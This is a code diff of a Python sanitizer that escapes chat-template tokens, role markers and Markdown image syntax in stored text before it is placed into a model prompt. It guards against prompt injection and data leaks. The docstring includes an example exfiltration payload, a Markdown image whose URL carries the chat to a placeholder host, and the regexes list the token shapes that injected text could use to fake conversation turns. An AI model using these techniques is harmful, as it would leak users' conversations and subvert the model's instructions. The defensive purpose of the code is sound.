@@ -17,9 +17,13 @@ renderer (episodes, lessons, reflection, the CLI) passes stored text through thi
 - one-line fields (tasks and strategies) have all whitespace collapsed to single
   spaces, so they never start a line of their own;
 - a ``<`` that starts something reading as one of the prompt's tags (``<experience``,
-  ``</feedback``, ``< / solution``, in any case) or a chat-template token
-  (``<|im_start|>``, ``<<SYS>>``) becomes ``&lt;``; ``[INST]`` and ``[/INST]`` become
-  ``\[INST]`` and ``\[/INST]``;
+  ``</feedback``, ``< / solution``, in any case) or a chat-template token becomes
+  ``&lt;``; tokens are recognised by their shape, for every model family: a bar after
+  the ``<`` (``<|im_start|>``; DeepSeek's tokens, whose bars are fullwidth, U+FF5C), a
+  snake_case name (Gemma's ``<start_of_turn>``), a sentinel (``<s>``, ``</s>``,
+  ``<bos>``, ``<eos>``), ``<<SYS>>``; a ``[WORD]``-style control marker (``[INST]``,
+  ``[/INST]``, Mistral's ``[SYSTEM_PROMPT]``, ``[TOOL_CALLS]``) that indexes nothing
+  gets a backslash: ``\[SYSTEM_PROMPT]``;
 - nothing a Markdown renderer would load: every ``![`` (inline, reference-style and
   shortcut images alike) becomes ``!\[``, so a rendered reply or tool answer cannot
   fetch ``![x](http://host/?q=<the chat>)``; a ``<`` opening a tag that loads a URL
@@ -151,14 +155,22 @@ _HEADING = "instructions?|response|input"
 # What may lead a role line: any whitespace but a newline (spaces, tab, NBSP, em or
 # ideographic space), quote and heading marks, bullets, and numbered-list markers.
 _LEAD = r"(?:[^\S\n]|[#>+\-\u2022\u00b7]|\*(?=[^\S\n])|\d{1,9}[.)])*"
+# Special-token sentinels of model families (Llama's <s>, Gemma's <bos>, ...).
+_SENTINELS = "s|bos|eos|pad|unk|eot|sep|cls|mask"
 # HTML tags that make a Markdown renderer load a URL.
 _LOADING = "img|image|picture|source|video|audio|track|iframe|frame|embed|object"
 _MARKER = re.compile(
     # A "<" opening one of the prompt's tags, a chat-template token or a loading tag.
-    rf"(?P<lt><(?=\s*/\s*(?:{_NAMES})\b|(?:{_NAMES})\b|\|[\w.:-]{{1,40}}\|>|<\s*/?\s*sys\s*>>"
+    rf"(?P<lt><(?=\s*/\s*(?:{_NAMES})\b|(?:{_NAMES})\b|<\s*/?\s*sys\s*>>"
+    # Chat-template tokens by shape: a bar after "<" (<|im_start|>, and DeepSeek's, whose
+    # fullwidth bars are folded), a snake_case name (<start_of_turn>), a sentinel (<s>).
+    rf"|\s*\||/?\s*(?:[a-z]+_[a-z_]+|{_SENTINELS})\s*>"
     rf"|(?:{_LOADING})(?:[\s/]|\Z)))"
-    # Llama's [INST] and [/INST].
-    r"|(?P<bracket>(?<!\\)\[(?=\s*/?\s*inst\s*\]))"
+    # Llama's [INST] and [/INST], and any [WORD]-style control marker ([SYSTEM_PROMPT],
+    # [/TOOL_CALLS]) that does not index something (data[KEY] stays).
+    r"|(?P<bracket>(?<!\\)\[(?=\s*/?\s*inst\s*\])"
+    r"|(?<![\w\]\)\\])\[(?=(?-i:[A-Z][A-Z0-9_]{2,})\])"
+    r"|(?<!\\)\[(?=(?-i:/[A-Z][A-Z0-9_]{2,}|[A-Z0-9]+_[A-Z0-9_]+)\]))"
     # The "[" of a Markdown image, "![".
     r"|(?P<image>(?<=!)\[)"
     # A role marker a model could read as a turn, whatever leads the line: "System:",
